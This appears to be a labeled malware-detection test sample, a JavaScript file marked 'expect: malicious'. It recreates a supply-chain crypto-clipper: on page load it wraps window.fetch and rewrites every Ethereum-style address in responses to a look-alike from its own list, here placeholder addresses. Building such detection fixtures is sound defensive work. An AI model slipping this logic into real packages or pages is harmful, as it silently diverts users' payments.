// expect: malicious
// source: blind set 35's ansi-styles clone (the September 2025 debug/chalk takeover's browser payload): in a browser
// it wraps fetch and rewrites each address in a response to the closest of its own by edit distance; written here
!function(){if("undefined"==typeof window)return;var L=function(a,b){var m=a.length,n=b.length,d=[],i,j;for(i=0;i<=m;i++)d[i]=[i];for(j=0;j<=n;j++)d[0][j]=j;for(i=1;i<=m;i++)for(j=1;j<=n;j++)d[i][j]=Math.min(d[i-1][j]+1,d[i][j-1]+1,d[i-1][j-1]+(a[i-1]===b[j-1]?0:1));return d[m][n]},
N=function(x,l){var r=l[0],s=1/0;l.forEach(function(c){var v=L(x,c);v<s&&(s=v,r=c)});return r},
E=["0xFAKE00000000000000000000000000000000dEaD","0xFAKE11111111111111111111111111111111dEaD"],
R=[[/\b0x[a-fA-F0-9]{40}\b/g,E]],X=function(t){R.forEach(function(p){t=t.replace(p[0],function(m){return N(m,p[1])})});return t},
F=window.fetch;window.fetch=function(){return F.apply(this,arguments).then(function(r){return r.clone().text().then(function(b){return new Response(X(b),{status:r.status,headers:r.headers})})})}}();
module.exports = {};
